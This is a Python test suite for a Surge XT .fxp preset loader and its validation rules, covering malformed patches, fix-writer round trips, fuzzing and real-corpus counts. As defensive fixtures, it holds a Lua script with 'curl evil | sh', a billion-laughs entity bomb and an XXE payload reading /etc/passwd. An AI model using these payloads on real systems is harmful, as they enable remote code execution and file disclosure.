"""Surge XT fxp loader and U rules: synthetic patches per code, the fix writer's agreement, hostile
bytes, and the real corpus (467 patches) with counts computed independently from the bytes."""

from __future__ import annotations

import base64
import html
import re
import struct
import xml.etree.ElementTree as ET
from datetime import timedelta
from pathlib import Path, PurePosixPath

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from presetctl.engine.fix.planner import apply_splices
from presetctl.engine.fix.writers import fxp as fxp_writer
from presetctl.engine.formats import fxp, registry
from presetctl.engine.formats.base import Document, LoadContext
from presetctl.engine.model import Violation
from presetctl.engine.options import Options
from presetctl.engine.rules.base import RuleContext
from presetctl.engine.rules.selection import RuleSet

OPTIONS = Options(profiles=("marketplace",))  # U011 and U012 are in the marketplace profile
RULES = RuleSet(OPTIONS)
SNARE = "kurasu__surge/resources/data/patches_factory/Percussion/Snare Tight.fxp"
XML = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes" ?><patch revision="16">'
       b'<meta name="Acid" category="Leads" comment="303ish" author="Me" license="CC0"><tags><tag tag="dark" />'
       b'</tags></meta><parameters><polylimit type="0" value="16" /><a_osc1_param4 type="2" value="27.5">'
       b'<modrouting source="6" depth="-0.5" /></a_osc1_param4></parameters></patch>')


def wavetable(samples: int = 4, tables: int = 2, flags: int = 4, extra: bytes = b"") -> bytes:
    width = 2 if flags & 4 else 4
    return struct.pack("<4sIHH", b"\0" * 4, samples, tables, flags) + b"\x01" * (samples * tables * width) + extra


def make(xml: bytes = XML, wts: tuple[bytes, ...] = (), *, name: bytes = b"Acid", byte_size: int | None = 0,
         tail: bytes = b"", sizes: tuple[int, ...] | None = None, xml_size: int | None = None) -> bytes:
    wt_sizes = list(sizes) if sizes is not None else [len(w) for w in wts] + [0] * (6 - len(wts))
    chunk = b"sub3" + struct.pack("<7I", len(xml) if xml_size is None else xml_size, *wt_sizes) + xml + b"".join(wts)
    chunk += tail
    head = struct.pack(">4sI4sI4sII28sI", b"CcnK", 0, b"FPCh", 1, b"cjs3", 1, 1, name, len(chunk))
    data = head + chunk
    size = len(data) - 8 if byte_size is None else byte_size
    return data[:4] + struct.pack(">I", size) + data[8:]


def load(data: bytes, path: str = "Leads/Acid.fxp", limit: int = 100 * 1024 * 1024) -> Document:
    return fxp.LOADER.load(data, LoadContext(PurePosixPath(path), max_decompressed=limit))


def violations(doc: Document, path: str = "Leads/Acid.fxp", only: tuple[str, ...] = ("",)) -> list[Violation]:
    """The loader's problems plus every rule check (with a code starting with ``only``) that runs on the
    document, as the pipeline does."""
    out = list(doc.problems)
    ctx = RuleContext(PurePosixPath(path), OPTIONS)
    for rule in RULES.checks_for(doc.format, doc.parsed, doc.validated):
        assert rule.check is not None
        if not rule.code.startswith(only):
            continue
        out.extend(v if v.code else Violation(v.message, v.location, rule.code, v.hint, v.data)
                   for v in rule.check(doc, ctx))
    return out


def codes(doc: Document, path: str = "Leads/Acid.fxp", prefix: str = "U") -> list[str]:
    return sorted(v.code for v in violations(doc, path) if v.code.startswith(prefix))


# --- model -------------------------------------------------------------------------------------------

def test_model_and_detection() -> None:
    data = make(wts=(wavetable(),))
    assert registry.detect(data[:4096], PurePosixPath("x.fxp")) is fxp.LOADER
    doc = load(data)
    assert doc.parsed and doc.validated and doc.problems == ()
    p = doc.presets[0]
    assert (p.name, p.category, p.description, p.author, p.license, p.tags) == ("Acid", "Leads", "303ish", "Me",
                                                                                "CC0", ("dark",))
    assert (p.synth, p.synth_version, p.voices) == ("Surge XT", "16", 16)
    assert [(m.source, m.target, m.amount) for m in p.modulations] == [("Modwheel", "a_osc1_param4", -0.5)]
    assert [(q.name, q.value, q.pointer) for q in p.parameters] == [
        ("polylimit", 16, "/patch/parameters/polylimit"), ("a_osc1_param4", 27.5, "/patch/parameters/a_osc1_param4")]
    (blob,) = doc.facts.blobs
    assert (blob.kind, blob.location.offset, blob.read()) == ("wavetable", 92 + len(XML), wavetable())
    assert doc.facts.header["program_name"] == b"Acid" and doc.facts.header["xml_size"] == len(XML)
    assert p.location("category").pointer == "/patch/meta/@category"
    assert codes(doc) == []
    # the sound key ignores the metadata: same sound, other name -> same key
    renamed = load(make(XML.replace(b'name="Acid" category="Leads"', b'name="Other" category="Pads"'), (wavetable(),)))
    assert renamed.presets[0].sound_key() == p.sound_key()  # type: ignore[misc]


def test_scripts_are_decoded() -> None:
    lua = b"function process(state) state.output = 0 return state end"
    xml = XML.replace(b"</parameters>", b"</parameters><extraoscdata><osc_extra_sc0_osc0 scene=\"0\" osc=\"0\" "
                      b"wavetable_formula=\"" + base64.b64encode(b"return 1") + b"\" /></extraoscdata><formulae>"
                      b"<formula scene=\"0\" i=\"0\" formula=\"" + base64.b64encode(lua) + b"\" /></formulae>")
    scripts = load(make(xml)).facts.scripts
    assert [(s.language, s.source, s.location.pointer) for s in scripts] == [
        ("lua", lua, "/patch/formulae/formula[1]/@formula"),
        ("lua", b"return 1", "/patch/extraoscdata/osc_extra_sc0_osc0/@wavetable_formula")]


def test_dangerous_lua_reaches_the_security_rules() -> None:
    lua = base64.b64encode(b'function process(state) os.execute("curl evil | sh") return state end')
    doc = load(make(XML.replace(b"</parameters>", b'</parameters><formulae><formula scene="0" i="0" formula="'
                                + lua + b'" /></formulae>')))
    found = [v for v in violations(doc, only=("X02",))]
    assert sorted(v.code for v in found) == ["X020", "X021"]
    assert {v.location.pointer for v in found} == {"/patch/formulae/formula[1]/@formula"}


def test_legacy_xml_chunk() -> None:
    head = struct.pack(">4sI4sI4sII28sI", b"CcnK", 0, b"FPCh", 1, b"cjs3", 1, 1, b"Acid", len(XML))
    assert load(make(XML + b"\0")).problems == ()  # a NUL terminator counted in the XML size is harmless
    doc = load(head + XML)
    assert doc.parsed and doc.presets[0].name == "Acid" and doc.facts.header["binary"] is False
    assert codes(doc) == []


# --- structure codes, one per case -------------------------------------------------------------------

@pytest.mark.parametrize(("data", "expected", "offset"), [
    (make()[:40], ["U001"], 0),
    (b"XXXX" + make()[4:], ["U001"], 0),
    (make()[:-10], ["U001"], 56),  # chunk runs past the end of the file
    (make()[:56] + b"\0\0\0\0" + make()[60:], ["U001"], 56),  # chunkSize 0
    (make(byte_size=1234), ["U002"], 4),
    (make(tail=b"junk"), ["U003"], 92 + len(XML)),
    (make()[:8] + b"FxCk" + make()[12:], ["U001"], 8),
    (make(xml_size=0), ["U004"], 64),
    (make(xml_size=1 << 22), ["U004"], 64),
    (make(xml_size=len(XML) + 1), ["U004"], 64),
    (make()[:60] + b"sub4" + make()[64:], ["U004"], 60),
    (make(wts=(wavetable(),), sizes=(5, 0, 0, 0, 0, 0)), ["U003", "U005"], 92 + len(XML)),
    (make(wts=(wavetable(samples=5000, tables=1),)), ["U005"], 96 + len(XML)),
    (make(wts=(wavetable()[:-4],)), ["U005"], 92 + len(XML)),
    (make(wts=(wavetable(extra=b"zz"),)), ["U006"], 92 + len(XML) + 12 + 16),
    (make(XML.replace(b"</patch>", b"")), ["U007"], 92 + len(XML) - len(b"</patch>")),
    (make(XML.replace(b"<parameters>", b"<params>").replace(b"</parameters>", b"</params>")), ["U009"], 92),
])
def test_structure_codes(data: bytes, expected: list[str], offset: int) -> None:
    doc = load(data)
    got = [v for v in doc.problems if v.code.startswith("U")]
    assert sorted(v.code for v in got) == expected
    assert any(v.location.offset == offset for v in got)


def test_xml_error_is_precise() -> None:
    xml = XML.replace(b'comment="303ish"', b'comment="303ish" comment="dup"')
    (v,) = load(make(xml)).problems
    col = xml.index(b'comment="dup"') + 1
    assert v.code == "U007" and v.location.offset == 92 + col - 1
    assert f"line 1, column {col} (XML byte {col - 1}, file byte {92 + col - 1}): duplicate attribute;" in v.message
    assert "Surge's parser stops there too" in v.message


def test_invalid_character_reference_reported_and_rest_read() -> None:
    xml = XML.replace(b'author="Me"', b'author="M&#x10;e"')
    doc = load(make(xml))
    (v,) = doc.problems
    at = xml.index(b"&#x10;")
    assert (v.code, v.location.offset, v.location.pointer) == ("U008", 92 + at, "//meta/@author")
    assert f"line 1, column {at + 1} (XML byte {at}, file byte {92 + at})" in v.message
    assert doc.parsed and doc.presets[0].name == "Acid" and doc.presets[0].author == "Me"  # read without it


def test_revision_tags_names_category_tuning() -> None:
    assert codes(load(make(XML.replace(b'revision="16"', b'revision="x"')))) == ["U018"]
    assert codes(load(make(XML.replace(b'revision="16"', b'revision="99"')))) == ["U010", "U019"]  # 99 >= 23
    assert codes(load(make(name=b"Default"))) == ["U011"]
    long_name = b"A Very Long Patch Name For Surge XT"
    long_xml = XML.replace(b'name="Acid"', b'name="' + long_name + b'"')
    assert codes(load(make(long_xml, name=long_name[:28]))) == []  # prgName is the name cut to 28 bytes
    assert codes(load(make(long_xml, name=long_name[:27]))) == []  # or to 27 and a terminator (the fix writer)
    assert codes(load(make()), "Pads/Acid.fxp") == ["U012"]
    assert codes(load(make(XML.replace(b'category="Leads"', b'category="Kyurumi\\Lead"'))), "Leads/Acid.fxp") == []
    assert codes(load(make()), "My Stuff/Acid.fxp") == []  # not a Surge category folder: nothing to compare
    assert codes(load(make(XML.replace(b'<tag tag="dark" />', b"<tag />")))) == ["U013"]
    assert codes(load(make(XML.replace(b'<tag tag="dark" />', b'<tag tag=" " /><kw tag="x" />')))) == ["U014", "U014"]
    tuning = XML.replace(b"</parameters>", b'</parameters><patchTuning v="!!!!" />')
    assert codes(load(make(tuning))) == ["U015"]
    good = XML.replace(b"</parameters>", b'</parameters><patchTuning v="' + base64.b64encode(b"! scale\n1\n2/1\n")
                       + b'" />')
    assert codes(load(make(good))) == []


def test_extension_after_wavetables_is_accounted_for() -> None:
    ext = b"\x28\xb5\x2f\xfd" + b"\0" * 8
    xml = XML.replace(b'revision="16"', b'revision="29"').replace(
        b"</parameters>", b'</parameters><tempoOnSave v="120" /><serialization absSize="' + str(len(ext)).encode()
        + b'" />')
    doc = load(make(xml, tail=ext))
    assert codes(doc) == [] and [b.kind for b in doc.facts.blobs] == ["extension"]
    assert codes(load(make(xml, tail=ext + b"x"))) == ["U003"]


# --- the fix writer and the parser agree ----------------------------------------------------------------

@pytest.mark.parametrize("with_wavetable", [False, True])
def test_fix_writer_output_loads_clean(with_wavetable: bool) -> None:
    data = make(wts=(wavetable(),) if with_wavetable else (), byte_size=None)
    for attr, value in (("name", "Renamed Lead <&> With A Name Longer Than 28"), ("category", "Pads"),
                        ("license", "CC-BY-4.0")):
        out = apply_splices(data, fxp_writer.set_meta(data, attr, value) or ())
        doc = load(out)
        assert doc.problems == (), attr
        p = doc.presets[0]
        assert {"name": p.name, "category": p.category, "license": p.license}[attr] == value
        assert [b.read() for b in doc.facts.blobs] == [b.read() for b in load(data).facts.blobs]
        assert codes(doc, "Pads/x.fxp" if attr == "category" else "Leads/x.fxp") == []


# --- hostile input --------------------------------------------------------------------------------------

def test_hostile_xml_is_refused_and_reported_by_security() -> None:
    laughs = (b'<?xml version="1.0"?><!DOCTYPE patch [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
              b'<patch revision="16"><meta name="&b;" /><parameters /></patch>')
    xxe = (b'<?xml version="1.0"?><!DOCTYPE patch [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
           b'<patch revision="16"><meta name="&x;" /><parameters /></patch>')
    for xml, security in ((laughs, {"X040", "X041"}), (xxe, {"X040", "X042"})):
        doc = load(make(xml))
        assert not doc.parsed and [v.code for v in doc.problems] == ["U007"]
        assert security <= set(codes(doc, prefix="X"))


def _no_crash(data: bytes) -> None:
    for loader in (fxp.LOADER, fxp.OTHER_LOADER):
        doc = loader.load(data, LoadContext(PurePosixPath("Leads/x.fxp"), max_decompressed=1 << 20))
        violations(doc)
        for blob in doc.facts.blobs:
            try:
                blob.read()
            except ValueError:
                pass  # a chunk over the limits: the scanner reports it (X071)
        for p in doc.presets:
            assert isinstance(p.parameters, tuple)
            if p.sound_key is not None:
                p.sound_key()


PROPS = settings(max_examples=150, deadline=timedelta(seconds=5), suppress_health_check=[HealthCheck.too_slow])


@PROPS
@given(st.binary(max_size=600))
def test_random_bytes_never_raise(data: bytes) -> None:
    _no_crash(data)
    _no_crash(make()[:60] + data)  # a valid header, then anything


@PROPS
@given(st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), min_size=1, max_size=12),
       st.integers(0, 20_000))
def test_mutated_patches_never_raise(edits: list[tuple[int, int]], cut: int) -> None:
    base = bytearray(make(wts=(wavetable(), wavetable(flags=0))))
    for at, value in edits:
        base[at % len(base)] = value
    _no_crash(bytes(base))
    _no_crash(bytes(base[: cut % (len(base) + 1)]))


# --- the real corpus ------------------------------------------------------------------------------------

def _singular(word: str) -> str:
    word = word.strip().lower()
    if word.endswith("sses"):
        return word[:-2]
    return word[:-1] if word.endswith("s") and not word.endswith("ss") else word


SURGE_FOLDERS = {_singular(w) for w in ("Basses Brass Chords FX Keys Leads MPE Pads Percussion Plucks Polysynths "
                                        "Sequences Splits Templates Vocoder Winds").split()}


def _surge_files(corpus: Path) -> list[Path]:
    return sorted((corpus / "surge-fxp").rglob("*.fxp"))


@pytest.mark.corpus
def test_corpus_surge(corpus: Path) -> None:
    files = _surge_files(corpus)
    assert len(files) == 467
    problems: dict[str, list[Violation]] = {}
    blobs = files_with_blobs = zero_size = len8 = strict_failures = prg_mismatch = category_mismatch = 0
    scripts = oracle_scripts = 0
    rule_codes: dict[str, int] = {}
    for p in files:
        data = p.read_bytes()
        rel = str(p.relative_to(corpus / "surge-fxp"))
        doc = load(data, rel)
        assert doc.format == "surge-fxp" and doc.parsed, rel
        if doc.problems:
            problems[rel] = list(doc.problems)
        for v in violations(doc, rel, only=("U", "X006")):
            rule_codes[v.code] = rule_codes.get(v.code, 0) + 1
        # independent oracles, from the bytes with struct and the standard library
        byte_size, chunk_size = struct.unpack(">I", data[4:8])[0], struct.unpack(">I", data[56:60])[0]
        assert data[:4] == b"CcnK" and data[8:12] == b"FPCh" and data[16:20] == b"cjs3" and data[60:64] == b"sub3"
        assert chunk_size + 60 == len(data)
        zero_size += byte_size == 0
        len8 += byte_size == len(data) - 8
        xml_size, *wt = struct.unpack("<7I", data[64:92])
        assert 92 + xml_size + sum(wt) == len(data)
        blobs += sum(1 for s in wt if s)
        files_with_blobs += any(wt)
        xml = data[92 : 92 + xml_size]
        try:
            ET.fromstring(xml)
        except ET.ParseError:
            strict_failures += 1
        meta = re.search(rb'<meta name="([^"]*)" category="([^"]*)"', xml)
        assert meta is not None
        name = html.unescape(meta.group(1).decode()).encode()
        program = data[28:56].split(b"\0")[0]
        prg_mismatch += not (program == name or (name.startswith(program) and len(program) == 28))
        folder = _singular(p.parent.name)
        leaf = _singular(re.split(r"[\\/]", html.unescape(meta.group(2).decode()))[-1])
        # a category naming another Surge category than the folder; author and pack names are Surge's convention
        category_mismatch += folder in SURGE_FOLDERS and leaf in SURGE_FOLDERS and leaf != folder
        oracle_scripts += len(re.findall(rb'(?:formula|wavetable_formula)="[^"]+"', xml))
        scripts += len(doc.facts.scripts)
        assert len(doc.facts.blobs) == sum(1 for s in wt if s)
    assert (zero_size, len8) == (456, 11)
    assert (blobs, files_with_blobs) == (189, 130)
    assert strict_failures == 1 and (scripts, oracle_scripts) == (0, 0)
    # exactly one structural problem in the corpus: Snare Tight's character reference, located precisely
    assert list(problems) == [SNARE]
    (v,) = problems[SNARE]
    data = (corpus / "surge-fxp" / SNARE).read_bytes()
    at = data.index(b"&#x10;")
    assert (v.code, v.location.offset, at) == ("U008", 26672, 26672)
    assert "line 1, column 26581 (XML byte 26580, file byte 26672)" in v.message and "&#x10;" in v.message
    assert (prg_mismatch, rule_codes["U011"]) == (11, 11)
    assert rule_codes["U012"] == category_mismatch == 24
    assert {c for c in rule_codes if c.startswith("U")} == {"U008", "U011", "U012"}
    # user folder paths in base64 data (the HasSCL test patches' tuning files), decoded here with base64
    user_path = re.compile(rb"(?i)(?:[A-Z]:[\\/]+(?:Users|Documents and Settings)[\\/]+|/(?:Users|home)/)")
    leaks = 0
    for p in _surge_files(corpus):
        for m in re.finditer(rb'="([A-Za-z0-9+/=]{40,})"', p.read_bytes()):
            try:
                leaks += bool(user_path.search(base64.b64decode(m.group(1), validate=True)))
            except ValueError:
                continue
    assert rule_codes["X006"] == leaks == 3


@pytest.mark.corpus
def test_corpus_fix_writer_round_trip(corpus: Path) -> None:
    """Renaming real patches (with and without wavetables) keeps them structurally clean."""
    files = [p for p in _surge_files(corpus) if "Snare Tight" not in p.name][::40]
    assert len(files) == 12
    for p in files:
        data = p.read_bytes()
        out = apply_splices(data, fxp_writer.set_meta(data, "name", "Renamed by presetctl") or ())
        doc = load(out)
        assert doc.problems == () and doc.presets[0].name == "Renamed by presetctl"
        assert [b.read() for b in doc.facts.blobs] == [b.read() for b in load(data).facts.blobs]


@pytest.mark.corpus
def test_corpus_cli_reports_snare_tight(corpus: Path, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    folder = tmp_path / "Percussion"
    folder.mkdir()
    (folder / "Snare Tight.fxp").write_bytes((corpus / "surge-fxp" / SNARE).read_bytes())
    result = cli(["validate", folder, "-o", "concise", "--select", "U", "--fail-on", "warning"])
    assert result.exit_code == 1
    assert "U008" in result.output and "byte 26672" in result.output
